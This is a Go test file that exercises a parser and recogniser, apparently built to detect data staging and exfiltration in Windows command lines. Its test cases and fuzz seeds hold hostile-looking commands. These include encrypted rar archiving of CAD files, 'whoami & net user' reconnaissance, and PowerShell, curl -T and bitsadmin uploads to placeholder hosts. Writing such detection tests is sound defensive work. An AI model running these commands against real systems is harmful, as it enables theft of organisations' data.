@@ -1,0 +1,134 @@
+package exposure
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestSplitArgs(t *testing.T) {
+	for _, tc := range []struct {
+		in   string
+		want []string
+	}{
+		{`rar.exe a -hpX d.rar *.dwg`, []string{"rar.exe", "a", "-hpX", "d.rar", "*.dwg"}},
+		{`"C:\Program Files\WinRAR\rar.exe" a "D:\My Data\x.rar" D:\p\`, []string{`C:\Program Files\WinRAR\rar.exe`, "a", `D:\My Data\x.rar`, `D:\p\`}},
+		// The program name takes no escapes: a backslash before its quote is literal.
+		{`"C:\x\"y z`, []string{`C:\x\y`, "z"}},
+		{`p a\\"b c"`, []string{"p", `a\b c`}},
+		{`p a\\\"b`, []string{"p", `a\"b`}},
+		{`p a\\b`, []string{"p", `a\\b`}},
+		{`p "a""b" c`, []string{"p", `a"b`, "c"}},
+		{`p "unterminated arg`, []string{"p", "unterminated arg"}},
+		{"  \t ", nil},
+	} {
+		if got := SplitArgs(tc.in); !slices.Equal(got, tc.want) {
+			t.Errorf("SplitArgs(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestCommands(t *testing.T) {
+	for _, tc := range []struct {
+		in   string
+		want []string // each command's arguments joined by |
+	}{
+		{`cmd.exe /c cd /d C:\x & rar a -hpp d.rar *.dwg > out.txt 2>&1`,
+			[]string{`cmd.exe|/c|cd|/d|C:\x|&|rar|a|-hpp|d.rar|*.dwg|>|out.txt|2>&1`, `cd|/d|C:\x`, `rar|a|-hpp|d.rar|*.dwg`}},
+		// cmd strips the first and last quote of its payload.
+		{`cmd /c "whoami & net user" > C:\1.txt`, []string{`cmd|/c|whoami & net user|>|C:\1.txt`, "whoami", "net|user"}},
+		// One quoted program with spaces is kept whole.
+		{`cmd /c "C:\Program Files\7-Zip\7z.exe"`, []string{`cmd|/c|C:\Program Files\7-Zip\7z.exe`, `C:\Program Files\7-Zip\7z.exe`}},
+		{`cmd /c copy a^&b c && xcopy d e`, []string{`cmd|/c|copy|a^&b|c|&&|xcopy|d|e`, `copy|a&b|c`, `xcopy|d|e`}},
+		{`powershell.exe -NoP -ep bypass -c "Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put"`,
+			[]string{`powershell.exe|-NoP|-ep|bypass|-c|Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put`,
+				`Compress-Archive|-Path|D:\a b\*|-DestinationPath|C:\x.zip`, `iwr|-Uri|https://h/u|-InFile|C:\x.zip|-Method|Put`}},
+		// -EncodedCommand: base64 of UTF-16LE "cp C:\a D:\b".
+		{`powershell -enc YwBwACAAQwA6AFwAYQAgAEQAOgBcAGIA`, []string{`powershell|-enc|YwBwACAAQwA6AFwAYQAgAEQAOgBcAGIA`, `cp|C:\a|D:\b`}},
+	} {
+		var got []string
+		for _, c := range Commands(tc.in) {
+			got = append(got, strings.Join(c.Args, "|"))
+		}
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("Commands(%q)\n got %q\nwant %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestGlobMatch(t *testing.T) {
+	for _, tc := range []struct {
+		pat, name string
+		want      bool
+	}{
+		{`D:\Shares\CAD\**`, `d:\shares\cad\a\b.dwg`, true},
+		{`D:\Shares\CAD\**`, `D:\Shares\CADX\b.dwg`, false},
+		{`**\*.dwg`, `D:\x\y.DWG`, true},
+		{`D:\p\*.dwg`, `D:\p\q\y.dwg`, false},
+		{`D:\p\**\*.dwg`, `D:\p\y.dwg`, true},
+		{`C:\t\d1.part?.rar`, `C:\t\d1.part3.rar`, true},
+	} {
+		if got := globMatch(tc.pat, tc.name); got != tc.want {
+			t.Errorf("globMatch(%q, %q) = %v, want %v", tc.pat, tc.name, got, tc.want)
+		}
+	}
+}
+
+func TestResolve(t *testing.T) {
+	for _, tc := range []struct{ p, cwd, want string }{
+		{`d.rar`, `C:\Users\a\`, `C:\Users\a\d.rar`},
+		{`..\x\*.dwg`, `D:\Data\Projects\`, `D:\Data\x\*.dwg`},
+		{`\Temp\o.7z`, `D:\Data\`, `D:\Temp\o.7z`},
+		{`d.rar`, ``, `d.rar`},
+		{`\\fs\share\..\x`, `C:\`, `\\fs\share\x`},
+		{`remote:bucket/x`, `C:\`, `remote:bucket/x`},
+		{`C:rel`, `C:\w`, `C:\w\rel`},
+	} {
+		if got := resolve(tc.p, tc.cwd); got != tc.want {
+			t.Errorf("resolve(%q, %q) = %q, want %q", tc.p, tc.cwd, got, tc.want)
+		}
+	}
+}
+
+func TestExpandCurlGlob(t *testing.T) {
+	got := expandCurlGlob(`C:\t\d1.part{1,2,3}.rar`)
+	want := []string{`C:\t\d1.part1.rar`, `C:\t\d1.part2.rar`, `C:\t\d1.part3.rar`}
+	if !slices.Equal(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if got := expandCurlGlob(`f[08-10].bin`); !slices.Equal(got, []string{"f08.bin", "f09.bin", "f10.bin"}) {
+		t.Errorf("range: got %q", got)
+	}
+	if got := expandCurlGlob(`{a,b}{c,d}[1-100]`); len(got) != 1 {
+		t.Errorf("past maxExpansion: got %d paths, want the pattern alone", len(got))
+	}
+}
+
+// FuzzCommands checks that no command line makes the splitting or the
+// tools' recognisers panic, hang or grow without bound.
+func FuzzCommands(f *testing.F) {
+	for _, s := range []string{
+		`cmd.exe /c "rar a -hpX -v100m d.rar D:\p\*.dwg" & curl -T "d.part{1,2}.rar" https://x/`,
+		`powershell -c "Compress-Archive -Path a,b -DestinationPath c.zip; Invoke-WebRequest -InFile c.zip -Uri u"`,
+		`tar -czf o.tgz -C D:\src .`, `7z a -pX -mhe=on -v1g o.7z @list.txt`, `makecab /D CabinetNameTemplate=x.cab /F l.ddf`,
+		`robocopy \\fs\s C:\t *.docx /E`, `bitsadmin /transfer j /upload http://x/y C:\f`, `rclone copy D:\p r:b`,
+		`cmd /c "a^"b" 2>&1 > "x y"`, `powershell -enc ////`, `curl -F "f=@C:\a;type=x" -d @b --upload-file=[1-9]`,
+	} {
+		f.Add(s, `C:\w\`)
+	}
+	f.Fuzz(func(t *testing.T, line, cwd string) {
+		if len(line) > 2*maxCommandLine || len(cwd) > 512 {
+			return
+		}
+		cmds := Commands(line)
+		if len(cmds) > 4*len(line)+4 {
+			t.Fatalf("%d commands from %d bytes", len(cmds), len(line))
+		}
+		for _, c := range cmds {
+			a, ok := recognise(c, cwd)
+			if ok && len(a.sources) > maxExpansion*len(c.Args)+len(c.Args) {
+				t.Fatalf("%d sources from %d arguments", len(a.sources), len(c.Args))
+			}
+		}
+	})
+}
